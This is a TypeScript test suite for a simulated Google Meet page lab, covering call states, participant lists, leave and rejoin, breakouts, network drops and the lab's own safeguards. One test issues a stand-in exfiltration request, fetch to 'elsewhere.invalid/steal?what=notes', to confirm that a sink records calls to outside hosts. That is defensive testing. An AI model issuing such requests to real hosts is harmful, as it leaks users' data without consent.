import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type Lab, startLab } from '../call-lab/server.ts'
import type { Phase } from '../call-lab/sites/google-meet/options.ts'
import { type LabBrowser, openBrowser } from './harness/browser.ts'
import { type MeetCall, type MeetQuery, openMeet } from './harness/meet.ts'
import { until } from './harness/until.ts'

let lab: Lab
let browser: LabBrowser
const calls: MeetCall[] = []

beforeAll(async () => {
  lab = await startLab()
  browser = await openBrowser({ lab, extensionDir: null })
})
afterEach(async () => {
  for (const call of calls.splice(0)) await call.page.close()
})
afterAll(async () => {
  await browser?.close()
  await lab?.stop()
})

async function meet(query: MeetQuery = {}): Promise<MeetCall> {
  const call = await openMeet(browser, query)
  calls.push(call)
  return call
}

const count = (call: MeetCall, selector: string) =>
  browser.silently<number>(call.page, `document.querySelectorAll(${JSON.stringify(selector)}).length`)
const texts = (call: MeetCall, selector: string) =>
  browser.silently<string[]>(
    call.page,
    `[...document.querySelectorAll(${JSON.stringify(selector)})].map((found) => found.textContent)`,
  )
const connected = (call: MeetCall) =>
  until(async () => (await call.lab('connection')) === 'connected', { what: 'the WebRTC connection' })

const control = '[jsname="CQylAd"]'
const ligatures = '.google-symbols'

describe('each state of the Meet page', () => {
  test('the home page leads to a room and is no room', async () => {
    const page = await browser.page('https://meet.google.com/')
    await page.waitForSelector('a[href="/abc-defg-hij"]')
    expect(await browser.silently(page, 'lab.phase()')).toBe('home')
    expect(await page.title()).toBe('Google Meet')
    await page.close()
  })

  test('the green room has switches that are no buttons, a join button, and no call', async () => {
    const call = await meet()
    expect(await count(call, 'div[role="button"][jsname="hw0c9"]')).toBe(1)
    expect(await texts(call, 'button[jsname="Qx7uuf"]')).toEqual(['Join now'])
    expect(await count(call, control)).toBe(0)
    expect(await count(call, '[data-call-ended]')).toBe(0)
    expect(await call.page.title()).toBe('Meet – abc-defg-hij')
  })

  test('a guest is asked for a name, and asks to join', async () => {
    const call = await meet({ guest: true })
    expect(await count(call, 'input[type="text"][aria-label="Your name"]')).toBe(1)
    expect(await texts(call, 'button[jsname="Qx7uuf"]')).toEqual(['Ask to join'])
  })

  test('waiting has the whole bar and a participant id, but neither chat, captions nor people', async () => {
    const call = await meet({ ask: true })
    await call.clickJoin()
    await call.waitFor('waiting')
    const icons = await texts(call, ligatures)
    expect(icons).toEqual(expect.arrayContaining(['call_end', 'mood', 'visual_effects']))
    expect(icons).not.toContain('chat')
    expect(icons).not.toContain('closed_caption_off')
    expect(await count(call, '[data-participant-id]')).toBe(1)
    expect(await count(call, '[data-self-name]')).toBe(0)
    expect(await texts(call, 'button[jsname="EszDse"]')).toEqual(['Return to home screen'])
    expect(await texts(call, '.lobby-text > div')).toContain('You’ll join the call when someone lets you in')
  })

  test('the call has tiles, the own name, the count, the list with its noise, and the bar', async () => {
    const call = await meet({ ask: true, people: 'Ines Korvall,Yusuf Brandt', me: 'Nora Feldt', title: 'Interview' })
    await call.clickJoin()
    await call.waitFor('waiting')
    await call.lab('admit')
    await call.lab('present', true)
    expect(await texts(call, '[data-participant-id] span.notranslate')).toEqual([
      'Presentation',
      'Ines Korvall',
      'Yusuf Brandt',
      'Nora Feldt',
    ])
    expect(await count(call, '[data-self-name="Nora Feldt"]')).toBe(1)
    expect(await texts(call, '[data-avatar-count="3"]')).toEqual(['3'])
    expect(await count(call, '[data-call-ended="false"][data-unresolved-meeting-id="abc-defg-hij"]')).toBe(1)
    const rows = await texts(call, '[data-panel-id="5"] [role="list"] > [role="listitem"]')
    expect(rows[0]).toContain('Nora Feldt (You)')
    expect(rows[1]).toContain('Meeting host')
    expect(rows.at(-1)).toBe('Merged audio')
    expect(await texts(call, ligatures)).toEqual(expect.arrayContaining(['call_end', 'chat', 'closed_caption_off']))
    expect(await count(call, 'button[aria-label="People - 3 joined"]')).toBe(1)
    expect(await call.page.title()).toBe('Interview - Google Meet')
  })

  test.each<[Phase, string, string]>([
    ['left', '[data-call-ended="true"] h1', 'You left the meeting'],
    ['host-ended', '[data-call-ended="true"] .roSPhc', 'Your host ended the meeting for everyone'],
    ['removed', '[data-call-ended="true"] .roSPhc', 'You’ve been removed from the meeting'],
    ['denied', 'h1', 'Someone in the call denied your request to join'],
    ['no-response', 'h1', 'No one responded to your request to join the call'],
    ['denied-left', 'h1', 'You left the meeting'],
  ])('%s says so and has no control bar', async (state, selector, said) => {
    const call = await meet({ state })
    expect(await texts(call, selector)).toEqual([said])
    expect(await count(call, control)).toBe(0)
    const ended = ['left', 'host-ended', 'removed'].includes(state)
    expect(await count(call, '[data-call-ended="true"] [data-mdc-dialog-action="returnToHomePage"]')).toBe(
      ended ? 1 : 0,
    )
    expect(await count(call, '[jsname="oI7Fj"]')).toBe(state === 'left' ? 1 : 0)
  })

  test('the German page has German labels and the same structure', async () => {
    const call = await meet({ hl: 'de', state: 'in-call' })
    expect(await count(call, `${control}[aria-label="Anruf verlassen"]`)).toBe(1)
    expect(await count(call, 'button[aria-label="Personen - 3"]')).toBe(1)
    await call.clickLeave()
    await call.waitFor('left')
    expect(await texts(call, 'h1')).toEqual(['Du hast das Meeting verlassen'])
  })
})

describe('what happens on the Meet page', () => {
  test('WebRTC connects with the call and closes at its end', async () => {
    const call = await meet({ state: 'in-call' })
    await connected(call)
    await until(
      () =>
        browser.silently<boolean>(
          call.page,
          '[...document.querySelectorAll(".tile video")].every((video) => video.videoWidth > 0)',
        ),
      {
        what: 'both pictures',
      },
    )
    await call.lab('hostEnds')
    expect(await call.lab('connection')).toBe('closed')
  })

  test('a real click on Leave leads to the left screen, Rejoin back, in one document and address', async () => {
    const call = await meet({ state: 'in-call' })
    await browser.silently(call.page, 'document.sameDocument = true')
    const address = call.page.url()
    const title = await call.page.title()
    await call.clickLeave()
    await call.waitFor('left')
    expect(call.page.url()).toBe(address)
    expect(await call.page.title()).toBe(title)
    await call.clickRejoin()
    await call.waitFor('in-call')
    await connected(call)
    expect(await browser.silently(call.page, 'document.sameDocument')).toBe(true)
  })

  test("a host's click on Leave only opens a dialog, which Escape takes away", async () => {
    const call = await meet({ state: 'in-call', host: true })
    await call.clickLeave()
    expect(await texts(call, '[data-mdc-dialog-action="Pd96ce"]')).toEqual(['Just leave the call'])
    await call.page.keyboard.press('Escape')
    expect(await count(call, '[role="dialog"]')).toBe(0)
    expect(await call.lab('phase')).toBe('in-call')
    await call.clickLeave()
    await call.click('[data-mdc-dialog-action="Pd96ce"]')
    await call.waitFor('left')
  })

  test('names join and leave with a toast, in tiles, list and count', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('join', 'Ines Korvall')
    await call.lab('leave', 'Maya Lindqvar')
    expect(await texts(call, '.toast')).toEqual(['Ines Korvall joined', 'Maya Lindqvar left'])
    expect(await texts(call, '.tile span.notranslate')).toEqual(['Tobias Ashgrove', 'Ines Korvall', 'Lena Haldorsen'])
    expect(await count(call, '[role="listitem"][aria-label="Ines Korvall"]')).toBe(1)
    expect(await count(call, '[data-avatar-count="3"]')).toBe(1)
  })

  test('an end that is only said in the chat stands in no heading', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('say', 'The meeting has ended')
    expect(await texts(call, '.message')).toEqual(['Maya LindqvarThe meeting has ended'])
    expect(await count(call, 'h1, .roSPhc')).toBe(0)
  })

  test('the consent lies over the call and says "Join now"', async () => {
    const call = await meet({ state: 'in-call', consent: true })
    expect(await texts(call, '[role="dialog"][aria-modal="true"] [data-mdc-dialog-action="ok"]')).toEqual(['Join now'])
    expect(await count(call, control)).toBe(1)
  })

  test('a flicker takes the controls away and puts the same ones back', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('flicker', 300)
    expect(await count(call, control)).toBe(0)
    expect(await count(call, '[data-call-ended="false"]')).toBe(1)
    await call.page.waitForSelector(control)
    expect(await count(call, '.tile')).toBe(3)
  })

  test('a breakout room is in the address, with controls built anew', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('breakout', 300)
    expect(call.page.url()).toBe('https://meet.google.com/abc-defg-hij?born=Breakout')
    expect(await count(call, control)).toBe(0)
    await call.page.waitForSelector(control)
    expect(await call.lab('connection')).not.toBe('closed')
  })

  test('a lost network silences the other side until it is back', async () => {
    const call = await meet({ state: 'in-call' })
    await connected(call)
    await call.lab('dropNetwork')
    await until(async () => (await call.lab('connection')) === 'disconnected', {
      within: 20_000,
      what: 'the disconnection',
    })
    await call.lab('restoreNetwork')
    await connected(call)
    expect(await count(call, control)).toBe(1)
  })

  test('the bar at rest is in the document, unseen, until the pointer moves', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('hideBar', true)
    const seen = `document.querySelector('${control}').checkVisibility({ visibilityProperty: true })`
    expect(await browser.silently(call.page, seen)).toBe(false)
    await call.page.mouse.move(300, 300)
    await until(() => browser.silently<boolean>(call.page, seen), { what: 'the bar' })
  })

  test('another room follows in the same document', async () => {
    const call = await meet({ state: 'in-call' })
    await call.lab('hostEnds')
    await call.lab('go', 'xyz-abcd-efg')
    expect(call.page.url()).toBe('https://meet.google.com/xyz-abcd-efg')
    await call.clickJoin()
    await call.waitFor('in-call')
    expect(await count(call, '[data-meeting-code="xyz-abcd-efg"]')).toBe(1)
  })

  test('the busy call makes the same changes in every run', async () => {
    const sums: number[] = []
    for (let run = 0; run < 2; run++) {
      const call = await meet({ state: 'in-call' })
      await call.lab('churn', true, 45)
      await until(async () => (await call.lab('churnState')).steps === 45, { what: '45 steps' })
      expect(await count(call, '.tile')).toBe(9)
      sums.push((await call.lab('churnState')).checksum)
    }
    expect(sums[0]).toBe(sums[1])
  })
})

describe('the lab around it', () => {
  test("the lab's own strip cannot be reached from the page", async () => {
    const call = await meet({ ask: true, lab: 'shown', state: 'waiting' })
    expect(await count(call, 'call-lab-strip')).toBe(1)
    expect(await browser.silently(call.page, 'document.querySelector("call-lab-strip").shadowRoot')).toBe(null)
    const all = (await texts(call, 'button, summary')).join()
    expect(all).not.toContain('Admit')
    expect(await browser.silently(call.page, 'document.documentElement.innerText')).not.toContain('Admit')
  })

  test('the page holds to a strict content policy', async () => {
    const call = await meet()
    const markup = 'try { document.body.innerHTML = "<b>x</b>"; "allowed" } catch (error) { error.name }'
    expect(await browser.silently(call.page, markup)).toBe('TypeError')
  })

  test('the sink records a request to any other host', async () => {
    const page = await browser.page('https://www.example.com/')
    const answered = await browser.silently<number>(
      page,
      `fetch('https://elsewhere.invalid/steal?what=notes', { mode: 'no-cors' }).then((response) => response.status)`,
    )
    expect(answered).toBe(0)
    await page.goto('http://plain.invalid/page')
    expect(lab.sink.requests).toEqual(
      expect.arrayContaining([
        { host: 'elsewhere.invalid', method: 'GET', url: 'https://elsewhere.invalid/steal?what=notes' },
        { host: 'plain.invalid', method: 'GET', url: 'http://plain.invalid/page' },
      ]),
    )
    expect(lab.sink.requests.filter(({ host }) => !host.endsWith('.invalid'))).toEqual([])
    await page.close()
  })

  test('a mail page shows and records what it was opened with', async () => {
    const query = new URLSearchParams({
      view: 'cm',
      to: 'a@example.com',
      su: 'Thank you',
      body: 'Hello <b>Maya</b>,\n\nthank you.',
    })
    const page = await browser.page(`https://mail.google.com/mail/?${query}`)
    expect(await browser.silently(page, 'document.querySelector("#body").textContent')).toBe(
      'Hello <b>Maya</b>,\n\nthank you.',
    )
    expect(lab.opened.at(-1)).toMatchObject({
      host: 'mail.google.com',
      to: 'a@example.com',
      subject: 'Thank you',
      body: 'Hello <b>Maya</b>,\n\nthank you.',
    })
    await page.close()
  })
})
